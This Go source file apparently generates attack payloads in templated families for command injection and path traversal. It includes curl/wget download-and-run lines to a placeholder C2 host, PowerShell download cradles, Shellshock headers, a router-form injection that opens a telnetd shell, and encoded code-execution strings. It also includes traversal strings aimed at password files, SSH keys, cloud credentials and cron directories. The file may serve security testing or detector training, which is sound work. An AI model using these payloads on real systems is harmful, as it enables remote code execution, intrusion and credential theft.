package east

func shellsMore() []family {
	return []family{
		{name: "cmdi/download-run", place: fields, veils: "ifs base64",
			vals: one("‹v›;curl http://‹c2›/‹w3›.sh|sh", "|wget -O- http://‹c2›/‹w4›|bash", "&&cd /tmp;wget http://‹ip›/‹twin:‹w5›.arm7~;chmod 777 ›;./*.arm7", "$(curl -fsSL ‹c2›/‹w2›|bash)", ";tftp -g -r ‹w4› ‹ip›;sh ‹w4›")},
		{name: "cmdi/encoded-pipe", place: fields,
			vals: one(";echo ‹b64:‹cmd››|base64 -d|sh", "|echo ‹hex:‹cmd››|xxd -r -p|bash", "$(printf '\\151\\144')", "&& bash<<<$(base64 -d<<<‹b64:‹cmd››)", ";python -c \"exec(__import__('base64').b64decode('‹b64:‹cmd››'))\"")},
		{name: "cmdi/glob-and-vars", place: strict,
			vals: one(";/???/??t /???/p??s??", "|c\\at${IFS}/etc/pa''sswd", ";{cat,/etc/passwd}", "$(tr '[A-Z]' '[a-z]'<<<\"WHOAMI\")", ";w$@ho$@am$@i", "&&a=c;b=at;$a$b /etc/passwd", ";cat$IFS$9${HOME%%??????}etc${PATH:0:1}passwd", ";rev<<<'dwssap/cte/ tac'|sh")},
		{name: "cmdi/windows-cmd", place: strict, veils: "case twice",
			vals: one("‹v› & ‹wincmd›", "|‹wincmd›", "&&‹wincmd›", "\" & ‹wincmd› & \"", "%COMSPEC% /c ‹wincmd›", "‹word›.txt|cmd /c ‹wincmd›", "& p^i^n^g -n ‹sec› 127.0.0.1 &")},
		{name: "cmdi/powershell", place: fields,
			vals: one("; powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://‹c2›/‹w3›.ps1')\"", "|powershell -e ‹u16b64:‹wincmd››", "& powershell.exe -EncodedCommand ‹u16b64:iwr http://‹c2›/a -OutFile b.exe;./b.exe›", "$(Invoke-Expression 'whoami /priv')", "; Start-Process cmd -ArgumentList '/c ‹wincmd›' #")},
		{name: "cmdi/option-injection", place: "query form json",
			vals: one("--upload-pack=‹tick›‹cmd›‹tick›", "-oProxyCommand=‹cmd›", "--output=/var/www/html/‹w3›.php -T", "--use-askpass=/tmp/‹w4›.sh", "-exec ‹cmd› ;", "ext::sh -c ‹cmd›", "--checkpoint=1 --checkpoint-action=exec=‹cmd›")},
		{name: "cmdi/shellshock", place: "header",
			reqs: one("GET /cgi-bin/status\n> user-agent: §", "GET /cgi-bin/‹w5›.cgi\n> referer: §", "GET /v1/status\n> x-custom: §"),
			vals: one("() { :;}; /bin/bash -c '‹cmd›'", "() { ignored; }; echo Content-Type: text/plain; echo; ‹cmd›", "() { _; } >_[$($())] { ‹cmd›; }")},
		{name: "cmdi/router-forms", place: "form",
			reqs: one("POST /goform/setPing form\nhost=§&count=4", "POST /cgi-bin/luci/diag form\naddr=§&submit=Ping", "POST /boaform/admin/formTracert form\ntarget_addr=§&waninf=1_INTERNET"),
			vals: one("‹ip›;‹cmd›", "127.0.0.1|‹cmd›", "‹tick›‹cmd›‹tick›", "8.8.8.8$(‹cmd›)", "1.1.1.1&&telnetd -l /bin/sh -p ‹#4›")},
		{name: "cmdi/php-code", place: strict, veils: "base64 twice",
			vals: one("<?php system('‹cmd›'); ?>", "‹v›');system('‹cmd›');//", "${@phpinfo()}", ";passthru(base64_decode('‹b64:‹cmd››'));", "assert(eval($_POST['‹w1›']))", "{${system($_GET[1])}}", "‹w3›.shell_exec('‹cmd›').‹w3›")},
		{name: "cmdi/python-ruby-code", place: fields,
			vals: one("__import__('os').system('‹cmd›')", "‹v›'+__import__('subprocess').getoutput('‹cmd›')+'", "eval(compile('import os;os.popen(\"‹cmd›\")','x','exec'))", "Kernel.exec('‹cmd›')", "%x(‹cmd›)", "open('|‹cmd›').read", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('‹cmd›',shell=1)")},
		{name: "cmdi/node-perl-code", place: fields,
			vals: one("require('child_process').execSync('‹cmd›')", "‹v›'});process.mainModule.require('child_process').exec('‹cmd›');//", "global.process.mainModule.constructor._load('child_process').spawnSync('sh',['-c','‹cmd›'])", "system(\"‹cmd›\");#", "@{[system '‹cmd›']}")},
		{name: "cmdi/file-name", place: "multipart",
			reqs: one(`POST /convert multipart
to
pdf
~~
file;§;image/png
‹B30›`),
			vals: one("‹word›;‹cmd›;.png", "$(‹cmd›).jpg", "‹tick›‹cmd›‹tick›.pdf", "‹word›.jpg|‹cmd›")},
		{name: "cmdi/json-array-argument", place: "json",
			reqs: one("POST /v1/jobs json\n{\"tool\":\"ffmpeg\",\"args\":[\"-i\",\"‹word›.mp4\",\"§\"]}", "POST /v1/jobs json\n{\"image\":\"‹slug›\",\"env\":{\"‹upper:‹word››\":\"§\"}}"),
			vals: one("out.mp4; ‹cmd›", "$(‹cmd›)", "-f null /dev/null|‹cmd›", "() { :; }; ‹cmd›")},
	}
}

func traversals() []family {
	return []family{
		{name: "traversal/deep-unix", place: strict, veils: "twice overlong base64",
			vals: one("‹3..12**../›‹unixfile›", "/‹4..8**../›‹unixfile›", "‹word›/‹4..9**../›‹unixfile›", "‹v›/‹3..8**../›etc/passwd")},
		{name: "traversal/path-segments", place: "path", veils: "twice overlong",
			vals: one("‹3..9**../›‹unixfile›", "..%2f..%2f..%2fetc%2fpasswd", "‹word›/‹4..7**../›‹unixfile›", ".%2e/.%2e/.%2e/.%2e/etc/passwd")},
		{name: "traversal/raw-path", place: "path",
			reqs: one("GET /static/¤", "GET /files/download/¤?v=‹1..9›", "GET /assets/¤"),
			vals: one("‹3..8**../›‹unixfile›", "‹3..8**%2e%2e/›‹unixfile›", "‹3..8**..%2f›‹unixfile›", "‹3..7**%252e%252e%252f›etc/passwd", "‹3..7**..%c0%af›etc/passwd", "‹3..7**%c0%ae%c0%ae/›etc/shadow", "‹3..7**.%00./›etc/passwd")},
		{name: "traversal/windows", place: strict, veils: "twice uformat",
			vals: one("‹3..9**..\\›‹winfile›", "‹3..8**../›‹winfile›", "C:\\‹windows\\win.ini|boot.ini|inetpub\\wwwroot\\web.config›", "..\\..\\..\\..\\windows\\system32\\config\\sam", "file:///C:/windows/win.ini", "\\\\‹ip›\\c$\\windows\\win.ini")},
		{name: "traversal/filter-evasion", place: strict, veils: "twice",
			vals: one("‹3..7**....//›etc/passwd", "‹3..7**..././›‹unixfile›", "‹3..7**..;/›etc/passwd", "‹3..7**....\\/›‹unixfile›", "‹3..6**.././›etc/shadow", "‹3..6**..//›etc//passwd", "‹4..7**..∕›etc∕passwd")},
		{name: "traversal/null-byte", place: strict,
			vals: one("‹3..8**../›etc/passwd‹nul›.png", "‹3..6**../›‹unixfile›‹nul›", "/etc/passwd‹nul›.‹html|jpg|php›", "‹3..8**../›etc/passwd%00.png")},
		{name: "traversal/absolute", place: strict, veils: "twice base64",
			vals: one("/‹unixfile›", "file:///‹unixfile›", "/etc/passwd", "/proc/self/fd/‹3..20›", "/./././etc/./passwd", "//etc//shadow")},
		{name: "traversal/php-wrappers", place: strict, veils: "twice",
			vals: one("php://filter/convert.base64-encode/resource=‹index|config|../../wp-config›.php", "php://filter/read=string.rot13/resource=/etc/passwd", "expect://‹cmd›", "data://text/plain;base64,‹b64:<?php system('id');?>›", "zip://uploads/‹w4›.jpg#‹w3›.php", "phar://./uploads/‹x8›.jpg/‹w3›", "php://input")},
		{name: "traversal/remote-include", place: queries, veils: "twice case",
			vals: one("http://‹c2›/‹w3›.txt?", "https://‹oob›/shell.txt‹nul›", "\\\\‹oob›\\share\\‹w3›.php", "ftp://‹w4›:‹w4›@‹ip›/‹w3›.php", "http://‹oob›/c99.txt?cmd=id")},
		{name: "traversal/dotfiles", place: strict, veils: "twice",
			vals: one("‹2..5**../›.env", "‹2..5**../›.git/config", "‹2..6**../›.aws/credentials", "‹3..7**../›.ssh/id_ed25519", "‹2..4**../›WEB-INF/web.xml", "‹2..4**../›config/database.yml", "‹2..4**../›wp-config.php")},
		{name: "traversal/file-name", place: "multipart",
			reqs: one(`POST /v1/uploads multipart
file;§;text/plain
‹word›`),
			vals: one("‹3..8**../›tmp/‹w4›.php", "‹3..6**..\\›inetpub\\wwwroot\\‹w4›.aspx", "‹2..6**../›var/www/html/‹w4›.jsp", "‹3..5**../›root/.ssh/authorized_keys", "‹3..6**..%2f›etc/cron.d/‹w4›")},
		{name: "traversal/zip-entries", place: "json",
			reqs: one("POST /v1/archives json\n{\"entries\":[{\"path\":\"‹word›/‹word›.txt\"},{\"path\":\"§\",\"content\":\"‹B20›\"}]}"),
			vals: one("‹3..9**../›etc/cron.d/‹w4›", "‹3..9**..\\›windows\\system32\\‹w4›.dll", "‹4..7**../›home/‹l4›/.bashrc", "/etc/ld.so.preload")},
		{name: "traversal/template-name", place: "query json cookie", veils: "twice",
			vals: one("‹4..8**../›etc/passwd‹nul›", "en/‹4..8**../›‹unixfile›", "lang=‹5..8**../›var/log/nginx/access.log", "‹4..6**../›proc/self/environ", "themes/‹4..6**../›tmp/sess_‹w26›")},
		{name: "traversal/nginx-alias-tomcat", place: "path",
			reqs: one("GET /static../¤", "GET /img..;/¤", "GET /app/..;/..;/¤", "GET /api/%2e%2e;/¤"),
			vals: one(".env", "etc/passwd", "manager/html", "WEB-INF/web.xml", ".git/HEAD", "actuator/env")},
	}
}
